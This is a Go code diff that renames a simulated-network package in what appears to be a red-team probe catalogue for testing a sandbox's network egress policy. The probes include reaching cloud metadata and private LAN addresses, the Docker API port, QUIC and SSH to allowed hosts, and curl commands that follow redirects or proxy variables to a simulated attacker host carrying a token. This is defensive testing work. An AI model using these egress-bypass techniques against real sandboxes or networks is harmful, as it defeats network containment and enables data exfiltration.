@@ -8,7 +8,7 @@ import (
 	"golang.org/x/sys/unix"
 
 	"github.com/custody-project/custody/netpolicy"
-	"github.com/custody-project/custody/redteam/world"
+	"github.com/custody-project/custody/redteam/simnet"
 )
 
 // addresses are the probes that go to an address, without a name.
@@ -24,7 +24,7 @@ func (c *catalogue) addresses() {
 func (c *catalogue) talkTo(v Family, proto string, to netip.Addr, port int) *task {
 	return &task{
 		Do: "talk", Host: to.String(), Family: v.number(), Port: port, Proto: proto,
-		Send: once("GET /" + c.token() + " HTTP/1.1\r\nHost: " + world.Attacker + "\r\n\r\n"),
+		Send: once("GET /" + c.token() + " HTTP/1.1\r\nHost: " + simnet.Attacker + "\r\n\r\n"),
 	}
 }
 
@@ -54,13 +54,13 @@ func (c *catalogue) services() {
 // places are addresses with a meaning of their own.
 func (c *catalogue) places() {
 	c.both("address/metadata", "the cloud's metadata service", Metadata, func(v Family) Probe {
-		return Probe{task: c.talkTo(v, "tcp", v.of(world.Metadata4, world.Metadata6), 80)}
+		return Probe{task: c.talkTo(v, "tcp", v.of(simnet.Metadata4, simnet.Metadata6), 80)}
 	})
 	c.both("address/lan", "a service of the host, at its address in a private network", Rebinding, func(v Family) Probe {
-		return Probe{task: c.talkTo(v, "tcp", v.of(world.SiteLAN4, world.SiteLAN6), 8080)}
+		return Probe{task: c.talkTo(v, "tcp", v.of(simnet.SiteLAN4, simnet.SiteLAN6), 8080)}
 	})
 	c.both("address/host", "a service of the host, at its public address", ProxyPort, func(v Family) Probe {
-		return Probe{task: c.talkTo(v, "tcp", v.of(world.Site4, world.Site6), 2375)}
+		return Probe{task: c.talkTo(v, "tcp", v.of(simnet.Site4, simnet.Site6), 2375)}
 	})
 	for _, s := range []struct{ id, title, to string }{
 		{"private", "a private address", "192.168.77.77"},
@@ -143,43 +143,43 @@ func (c *catalogue) otherPorts() {
 		port                   int
 		bypass                 Bypass
 	}{
-		{"other-port", "another port of an allowed name", world.Allowed, "tcp", 8443, OtherWay},
-		{"ssh-to-allowed", "git over ssh to a host that is allowed for HTTPS", world.Allowed, "tcp", 22, OtherWay},
-		{"smtp-to-allowed", "mail to a host that is allowed for HTTPS", world.Allowed, "tcp", 25, OtherWay},
-		{"cleartext-port", "port 80 of a host that is allowed on 443", world.Allowed, "tcp", 80, OtherWay},
-		{"quic-to-allowed", "QUIC to an allowed name", world.Allowed, "udp", 443, QUIC},
-		{"udp-to-plain", "UDP to a name that is allowed for TCP", world.Plain, "udp", 80, QUIC},
+		{"other-port", "another port of an allowed name", simnet.Allowed, "tcp", 8443, OtherWay},
+		{"ssh-to-allowed", "git over ssh to a host that is allowed for HTTPS", simnet.Allowed, "tcp", 22, OtherWay},
+		{"smtp-to-allowed", "mail to a host that is allowed for HTTPS", simnet.Allowed, "tcp", 25, OtherWay},
+		{"cleartext-port", "port 80 of a host that is allowed on 443", simnet.Allowed, "tcp", 80, OtherWay},
+		{"quic-to-allowed", "QUIC to an allowed name", simnet.Allowed, "udp", 443, QUIC},
+		{"udp-to-plain", "UDP to a name that is allowed for TCP", simnet.Plain, "udp", 80, QUIC},
 	} {
 		c.add(Probe{ID: "address/" + s.id, Title: s.title, Bypass: s.bypass, task: &task{Do: "talk", Name: s.name, Port: s.port, Proto: s.proto, Send: hello()}, proof: denied})
 	}
 	c.both("address/direct-other-port", "another port of a direct name", OtherWay, func(v Family) Probe {
-		return Probe{task: &task{Do: "talk", Name: world.Direct, Family: v.number(), Port: 7002, Send: hello()}, allowed: asks, proof: denied}
+		return Probe{task: &task{Do: "talk", Name: simnet.Direct, Family: v.number(), Port: 7002, Send: hello()}, allowed: asks, proof: denied}
 	})
 	c.both("address/direct-other-proto", "a direct name's TCP port by UDP", OtherWay, func(v Family) Probe {
-		return Probe{task: &task{Do: "talk", Name: world.Direct, Family: v.number(), Port: 7000, Proto: "udp", Send: hello()}, allowed: asks, proof: denied}
+		return Probe{task: &task{Do: "talk", Name: simnet.Direct, Family: v.number(), Port: 7000, Proto: "udp", Send: hello()}, allowed: asks, proof: denied}
 	})
 	c.both("address/direct-unasked", "the address of a direct name that was never asked for", AnyAddress, func(v Family) Probe {
-		return Probe{task: c.talkTo(v, "tcp", v.of(world.Quiet4, world.Quiet6), 7000)}
+		return Probe{task: c.talkTo(v, "tcp", v.of(simnet.Quiet4, simnet.Quiet6), 7000)}
 	})
 	c.both("address/allowed-real", "the real address of a name that the gateway serves", AnyAddress, func(v Family) Probe {
-		return Probe{task: c.talkTo(v, "tcp", v.of(world.Allowed4, world.Allowed6), 443)}
+		return Probe{task: c.talkTo(v, "tcp", v.of(simnet.Allowed4, simnet.Allowed6), 443)}
 	})
 	p := Probe{
 		ID: "address/redirect-name", Title: "a redirect of an allowed server to the attacker's name", Bypass: OtherWay, allowed: reaches,
-		task: program("curl", "-sS", "-m", "20", "--cacert", "ca.pem", "-L", "https://"+world.Allowed+"/redirect?to=https://"+c.token()+"."+world.Attacker+"/"),
+		task: program("curl", "-sS", "-m", "20", "--cacert", "ca.pem", "-L", "https://"+simnet.Allowed+"/redirect?to=https://"+c.token()+"."+simnet.Attacker+"/"),
 	}
 	c.add(p)
 	a := c.victim(IPv4)
 	c.add(Probe{
 		ID: "address/redirect-address", Title: "a redirect of an allowed server to the attacker's address", Bypass: OtherWay, allowed: reaches,
-		task:    program("curl", "-sS", "-m", "20", "--connect-timeout", "5", "--cacert", "ca.pem", "-L", "https://"+world.Allowed+"/redirect?to=http://"+a.String()+"/"+c.token()),
+		task:    program("curl", "-sS", "-m", "20", "--connect-timeout", "5", "--cacert", "ca.pem", "-L", "https://"+simnet.Allowed+"/redirect?to=http://"+a.String()+"/"+c.token()),
 		targets: []target{{"", netip.AddrPortFrom(a, 80)}},
 	})
 	a = c.victim(IPv4)
 	c.add(Probe{
 		ID: "address/proxy-variables", Title: "a proxy of the attacker's, named by the usual variables", Bypass: ProxyPort,
 		task: program("env", "https_proxy=http://"+a.String()+":8080", "curl", "-sS", "-m", "20", "--connect-timeout", "5", "--cacert", "ca.pem",
-			"https://"+world.Allowed+"/"+c.token()),
+			"https://"+simnet.Allowed+"/"+c.token()),
 		targets: []target{{"", netip.AddrPortFrom(a, 8080)}},
 	})
 }
